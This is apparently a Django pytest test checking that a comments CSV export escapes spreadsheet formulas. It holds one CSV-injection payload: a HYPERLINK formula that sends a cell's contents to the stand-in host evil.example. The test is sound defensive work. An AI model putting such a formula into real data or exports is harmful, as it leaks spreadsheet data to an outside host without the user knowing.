"""The comments list's CSV export goes through the safe export base."""

import csv
import io

import pytest

from members.comments.models import Comment
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'


def test_comment_csv_export_has_no_formulas(client, light_item):
    Comment.objects.create(item=light_item, author=UserFactory(), body=ATTACK)
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    response = client.get("/admin/snippets/comments/comment/?export=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert "'" + ATTACK in rows[1]
    assert ATTACK not in rows[1]
